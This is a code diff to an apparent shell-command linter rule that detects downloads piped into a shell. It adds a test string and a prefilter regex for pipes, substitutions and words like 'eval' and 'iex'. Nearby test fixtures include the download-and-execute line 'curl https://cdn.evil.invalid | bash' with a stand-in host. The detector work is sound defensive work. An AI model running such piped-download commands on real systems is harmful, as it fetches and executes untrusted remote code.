@@ -53,6 +53,7 @@ func pipeToShell() Rule {
 			{Text: "curl -sL https://cdn.evil.invalid/a.tgz | sha256sum"},
 			{Text: "curl -s https://api.evil.invalid/v1 | python3 -c 'import json,sys; print(json.load(sys.stdin))'"},
 			{Text: "node app.js --ip $(curl -s https://ifconfig.evil.invalid)"},
+			{Text: "- `curl -s 'https://api.evil.invalid/v1'\n"},
 			{Text: "| curl | shell tool for HTTP |"},
 			{Text: "- Never run `curl https://cdn.evil.invalid | bash`."},
 		},
@@ -88,6 +89,9 @@ func wgetPipeToShell() Rule {
 // a pipe, a substitution, or a here-string.
 func judgePipe(s *Scene, wanted func(name string) bool) []Hit {
 	var hits []Hit
+	if !handsOver().MatchString(s.Text) {
+		return nil
+	}
 	s.EachPipeline(func(c Command, p shell.Pipeline) {
 		by, urls, ok := runsDownload(p)
 		if !ok || !wanted(by.Name) {
@@ -102,6 +106,11 @@ func judgePipe(s *Scene, wanted func(name string) bool) []Hit {
 	}
 	return hits
 }
+
+// handsOver is in every text in which one command runs what another one gives.
+//
+//nolint:gochecknoglobals // compiled on first use
+var handsOver = lazy(`\||\$\(|<\(|<<<|>\(|(?i:eval|pipe|feed|iex|through|stdin|into)|` + "`(?:curl|wget)|管道|传给|传递给|交给")
 
 // saysPipe finds the act in words: fetch this address and pipe it to a shell.
 func (s *Scene) saysPipe() []Hit {
